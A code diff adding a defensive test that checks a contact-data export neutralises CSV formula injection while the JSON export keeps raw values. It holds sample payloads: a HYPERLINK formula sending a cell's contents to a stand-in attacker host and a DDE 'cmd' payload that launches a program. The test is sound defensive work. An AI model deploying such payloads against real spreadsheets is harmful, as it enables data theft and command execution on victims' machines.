@@ -189,3 +189,34 @@ def test_an_erased_contact_cannot_be_exported(person):
         _export(person)
 
     assert AuditEvent.objects.count() == before
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised_json_keeps_them(person):
+    """CSV injection (OWASP): a value starting with = + - @ tab or CR is a formula to a
+    spreadsheet. The CSV gets a leading quote; the JSON keeps what the person typed."""
+    Interaction.objects.filter(contact=person).update(body="+1+cmd|' /C calc'!A0")
+    type(person).objects.filter(pk=person.pk).update(
+        first_name=FORMULA, last_name="@SUM(1+1)", notes="-2+3", state="\tX"
+    )
+    archive, _ = _export(person)
+
+    profile = json.loads(archive.read("privacy.contact/profile.json"))[0]
+    assert (profile["first_name"], profile["last_name"], profile["notes"]) == (
+        FORMULA,
+        "@SUM(1+1)",
+        "-2+3",
+    )
+    csv_profile = _csv_rows(archive, "privacy.contact/profile.csv")[0]
+    assert csv_profile["first_name"] == "'" + FORMULA
+    assert csv_profile["last_name"] == "'@SUM(1+1)"
+    assert csv_profile["notes"] == "'-2+3"
+    assert csv_profile["state"] == "'\tX"
+    assert csv_profile["date_of_birth"] == "1990-12-10"  # not text a person typed: as is
+    bodies = {row["body"] for row in _csv_rows(archive, "privacy.interaction/interactions.csv")}
+    assert "'+1+cmd|' /C calc'!A0" in bodies
+    assert "+1+cmd|' /C calc'!A0" in {
+        row["body"] for row in json.loads(archive.read("privacy.interaction/interactions.json"))
+    }
